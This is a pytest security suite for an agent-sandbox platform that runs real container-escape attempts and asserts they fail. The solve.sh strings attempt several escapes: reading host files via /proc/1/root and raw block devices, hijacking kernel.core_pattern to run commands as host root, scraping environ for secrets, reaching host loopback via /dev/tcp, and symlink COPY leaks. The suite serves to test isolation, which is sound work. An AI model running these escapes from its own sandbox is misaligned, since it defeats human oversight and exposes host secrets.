"""Escape: nothing a task's Dockerfile or an agent does reaches the host.

Each attack is a real Harbor trial on the default engine: the oracle runs `solve.sh` (the attack,
which prints what it reached); build-time attacks are the task's own `environment/Dockerfile`.
The host side plants what an escape would find (a marker file, a secret in this process's
environment, a service on 127.0.0.1) and checks what an escape would change (a sysctl, a file,
the kernel keyring).
"""

from __future__ import annotations

import os
import re
import socket
import threading
import uuid
from pathlib import Path

import pytest

from autoenvscaling.tools.settings import get_settings
from tests.security.conftest import (
    BACKEND,
    agent_log,
    describe,
    run_all,
    sandbox_runtime,
    write_task,
)

pytestmark = [pytest.mark.timeout(900)]

TEST_SH = """\
    #!/bin/bash
    mkdir -p /logs/verifier
    echo 0.0 > /logs/verifier/reward.txt
    """
DOCKERFILE = "FROM debian:bookworm-slim\nWORKDIR /app\n"
CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")


class Loopback:
    """A TCP service on the host's 127.0.0.1 that records every connection and sends a secret."""

    def __init__(self, secret: str) -> None:
        self.secret = secret
        self.connections: list[str] = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, peer = self.server.accept()
            except OSError:
                return
            self.connections.append(f"{peer[0]}:{peer[1]}")
            try:
                conn.sendall(self.secret.encode() + b"\n")
            finally:
                conn.close()

    def close(self) -> None:
        self.server.close()


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    """What an escape would find or change on the host, planted before any trial starts."""
    token = uuid.uuid4().hex
    marker_dir = tmp_path_factory.mktemp(f"aes-security-marker-{token[:8]}")
    marker = marker_dir / "secret.txt"
    marker.write_text(f"MARKER-{token}\n")
    env_secret = f"ENVSECRET-{token}"
    os.environ["AES_SECURITY_HOST_SECRET"] = env_secret
    loopback = Loopback(f"LOOPBACK-{token}")
    core_pattern = CORE_PATTERN.read_text()
    facts = {
        "token": token,
        "marker": marker,
        "marker_secret": f"MARKER-{token}",
        "escape_file": Path(f"/tmp/aes-security-escaped-{token}"),
        "env_secret": env_secret,
        "loopback": loopback,
        "core_pattern": core_pattern,
        "key_name": f"aes-security-key-{token[:12]}",
    }
    yield facts
    loopback.close()
    os.environ.pop("AES_SECURITY_HOST_SECRET", None)
    if CORE_PATTERN.read_text() != core_pattern:  # the attack worked: put the host back
        CORE_PATTERN.write_text(core_pattern)
    facts["escape_file"].unlink(missing_ok=True)


def _probe_connect(port: int) -> str:
    """Shell that tries the host loopback service (python and bash's /dev/tcp)."""
    return (
        f'python3 -c \'import socket; s = socket.create_connection(("127.0.0.1", {port}), 3); '
        f'print("got", s.recv(200))\' 2>&1; '
        f"timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && head -c 200 <&3' 2>&1; true"
    )


@pytest.fixture(scope="module")
def outcomes(engine_ready, host, tmp_path_factory):
    root: Path = tmp_path_factory.mktemp("escape")
    marker, escape = host["marker"], host["escape_file"]
    port = host["loopback"].port
    tasks: dict[str, Path] = {}

    tasks["host_files"] = write_task(
        root,
        "host-files",
        dockerfile=DOCKERFILE,
        test_sh=TEST_SH,
        solve=f"""\
            #!/bin/bash
            # Read a host file and create one, by every route a root process might have.
            for p in {marker} /proc/1/root{marker} /proc/*/root{marker}; do cat "$p" 2>/dev/null; done
            mkdir -p /mnt/host
            for dev in /dev/sd? /dev/vd? /dev/xvd? /dev/nvme?n? /dev/mapper/* /dev/root; do
              [ -e "$dev" ] || continue
              if mount -o ro "$dev" /mnt/host 2>/dev/null; then
                echo "mounted $dev"; cat /mnt/host{marker} 2>/dev/null; umount /mnt/host
              fi
            done
            mknod /tmp/disk b 253 0 2>&1 && mount /tmp/disk /mnt/host 2>&1 && cat /mnt/host{marker}
            echo escaped > {escape} 2>/dev/null; echo escaped > /proc/1/root{escape} 2>/dev/null
            find / -xdev -name 'aes-security-marker-*' 2>/dev/null
            echo probe-done
            """,
    )
    tasks["sysctl"] = write_task(
        root,
        "sysctl",
        dockerfile=DOCKERFILE,
        test_sh=TEST_SH,
        solve=f"""\
            #!/bin/bash
            # A core_pattern pipe runs its program as root in the host's namespaces.
            echo '|/bin/sh -c "echo escaped > {escape}"' > /proc/sys/kernel/core_pattern 2>&1
            sysctl -w 'kernel.core_pattern=|/bin/touch {escape}' 2>&1
            mount -o remount,rw /proc/sys 2>&1 && echo '|/bin/touch {escape}' > /proc/sys/kernel/core_pattern
            echo "core_pattern inside: $(cat /proc/sys/kernel/core_pattern)"
            ulimit -c unlimited; bash -c 'kill -SEGV $$'
            echo probe-done
            """,
    )
    tasks["host_env_and_loopback"] = write_task(
        root,
        "host-env-and-loopback",
        # The build is the first attack: RUN looks for the host's environment and loopback.
        dockerfile=DOCKERFILE
        + "RUN (echo '== build env'; env; echo '== build pid 1'; tr '\\0' '\\n' < /proc/1/environ; "
        + f"echo '== build loopback'; {_probe_connect(port)}) > /build-probe.txt 2>&1 || true\n",
        test_sh=TEST_SH,
        solve=f"""\
            #!/bin/bash
            cat /build-probe.txt
            echo '== trial env'; env
            echo '== trial environ'; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f"; done 2>/dev/null
            echo '== trial loopback'; {_probe_connect(port)}
            echo probe-done
            """,
    )
    for mode in ("separate", "shared"):  # Harbor checks the task's inputs itself in one mode
        symlinked = write_task(
            root,
            f"symlink-copy-{mode}",
            mode=mode,
            dockerfile=DOCKERFILE + "COPY leak /app/leak\nCOPY leakdir/ /app/leakdir/\n",
            test_sh=TEST_SH,
            solve="""\
                #!/bin/bash
                ls -la /app /app/leakdir 2>&1; cat /app/leak /app/leakdir/* 2>&1; echo probe-done
                """,
        )
        (symlinked / "environment" / "leak").symlink_to(marker)
        (symlinked / "environment" / "leakdir").symlink_to(marker.parent)
        tasks[f"symlink_copy_{mode}"] = symlinked
    tasks["limits"] = write_task(
        root,
        "limits",
        dockerfile=DOCKERFILE,
        test_sh=TEST_SH,
        cpus=64,
        memory_mb=1024 * 1024,  # 1 TB
        solve="""\
            #!/bin/bash
            echo "MEM=$(cat /sys/fs/cgroup/memory.max 2>/dev/null || cat /sys/fs/cgroup/memory/memory.limit_in_bytes)"
            echo "MEMTOTAL=$(awk '/^MemTotal:/ {print $2 * 1024}' /proc/meminfo)"
            if [ -e /sys/fs/cgroup/cpu.max ]; then echo "CPU=$(cat /sys/fs/cgroup/cpu.max)"
            else echo "CPU=$(cat /sys/fs/cgroup/cpu/cpu.cfs_quota_us) $(cat /sys/fs/cgroup/cpu/cpu.cfs_period_us)"; fi
            echo probe-done
            """,
    )
    tasks["keyring"] = write_task(
        root,
        "keyring",
        dockerfile=DOCKERFILE,
        test_sh=TEST_SH,
        solve=f"""\
            #!/bin/bash
            python3 - <<'EOF'
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            for ring, name in ((-4, "user"), (-5, "user-session"), (-3, "session")):
                r = libc.syscall(248, b"user", b"{host["key_name"]}", b"s3cret", 6, ring)
                print("add_key", name, r, os.strerror(ctypes.get_errno()))
            print(open("/proc/keys").read())
            EOF
            echo probe-done
            """,
    )
    return run_all({k: (t, BACKEND) for k, t in tasks.items()}, root / "trials")


def _ran(outcome) -> str:
    log = agent_log(outcome)
    assert "probe-done" in log, f"the attack did not run:\n{describe(outcome)}"
    return log


def test_host_files_are_neither_read_nor_written(outcomes, host):
    log = _ran(outcomes["host_files"])
    assert host["marker_secret"] not in log
    assert not host["escape_file"].exists()


def test_host_sysctl_is_unchanged(outcomes, host):
    _ran(outcomes["sysctl"])
    assert CORE_PATTERN.read_text() == host["core_pattern"]
    assert not host["escape_file"].exists()


def test_host_environment_is_invisible_from_trials_and_builds(outcomes, host):
    log = _ran(outcomes["host_env_and_loopback"])
    assert "== build env" in log, "the build-time probe did not run"
    assert host["env_secret"] not in log


def test_host_loopback_service_is_unreachable_from_trials_and_builds(outcomes, host):
    log = _ran(outcomes["host_env_and_loopback"])
    assert "== build loopback" in log, "the build-time probe did not run"
    assert not host["loopback"].connections, log
    assert host["loopback"].secret not in log


@pytest.mark.parametrize("mode", ["separate", "shared"])
def test_copy_of_a_symlink_out_of_the_task_is_refused(outcomes, host, mode):
    """The task is refused before anything runs (no reward), or the image holds at most a
    dangling link: never the host file."""
    outcome = outcomes[f"symlink_copy_{mode}"]
    log = agent_log(outcome)
    assert host["marker_secret"] not in log + (outcome.error or "")
    refused = outcome.reward is None and outcome.error is not None and not log
    assert refused or "probe-done" in log, describe(outcome)


def test_task_limits_are_clamped_to_the_host(outcomes):
    """A task asking for 64 CPUs and 1 TB still runs, inside what the host has. Under runsc the
    cgroup files inside are gVisor's (no limit shown) and its /proc/meminfo reports the
    container's memory limit: that is read, and the CPU quota is checked from the host
    (tests/security/test_runtimes.py's test_limits_are_clamped_on_the_host)."""
    log = _ran(outcomes["limits"])
    mem = re.search(r"^MEM=(\S+)", log, re.M)
    cpu = re.search(r"^CPU=(\S+) (\d+)", log, re.M)
    assert mem and cpu, log
    total = int(re.search(r"MemTotal:\s+(\d+)", Path("/proc/meminfo").read_text())[1]) * 1024
    if sandbox_runtime() == "runsc":
        seen = re.search(r"^MEMTOTAL=(\d+)", log, re.M)
        assert seen, log
        cap = get_settings().max_memory_mb * 2**20
        assert int(seen[1]) <= min(cap, total), f"memory {seen[1]} > the {cap} cap"
        return
    assert mem[1] != "max" and int(mem[1]) <= total, f"memory limit {mem[1]} > host {total}"
    assert cpu[1] != "max" and int(cpu[1]) / int(cpu[2]) <= (os.cpu_count() or 1), log


def test_kernel_keyring_is_not_shared(outcomes, host):
    log = _ran(outcomes["keyring"])
    assert "add_key" in log
    assert host["key_name"] not in Path("/proc/keys").read_text()
